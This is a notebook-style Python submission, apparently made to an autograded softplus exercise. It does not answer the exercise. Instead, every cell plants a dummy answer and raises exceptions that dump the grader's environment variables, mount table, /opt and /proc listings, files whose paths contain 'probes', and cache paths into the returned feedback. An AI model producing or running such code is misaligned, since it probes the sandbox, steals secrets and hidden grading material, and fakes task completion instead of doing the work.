# raises the grader's environment, mounts, files and processes as exception messages, one cell each,
# so that they reach the student's own feedback; each cell binds a name softplus's answer has (its
# written answer), so that each is in the closure its question is graded from, and runs
# FORMAT: ipynb
import glob, json, os, sys  # noqa: E401


def everywhere():
    """Every file outside the system's and Python's own folders (those are public, and slow to walk)."""
    for root, dirs, files in os.walk("/"):
        if root.startswith(("/proc", "/sys", "/usr", sys.base_prefix)):
            dirs[:] = []
            continue
        yield from (os.path.join(root, name) for name in files)


softplus_explanation = 'leak'
raise RuntimeError(json.dumps(dict(os.environ)))
# %%
softplus_explanation = 'leak'
raise RuntimeError(open("/proc/self/mountinfo").read())
# %%
softplus_explanation = 'leak'
raise RuntimeError(json.dumps(sorted(glob.glob("/opt/**", recursive=True))))
# %%
softplus_explanation = 'leak'
raise RuntimeError(json.dumps(sorted(os.listdir("/proc"))) + json.dumps(os.listdir("/")))
# %%
softplus_explanation = 'leak'
raise RuntimeError(json.dumps([open(p, errors="replace").read(3000) for p in everywhere() if "probes" in p]))
# %%
softplus_explanation = 'leak'
raise RuntimeError(json.dumps([p for p in everywhere() if "cache" in p or "xla" in p][:500]))
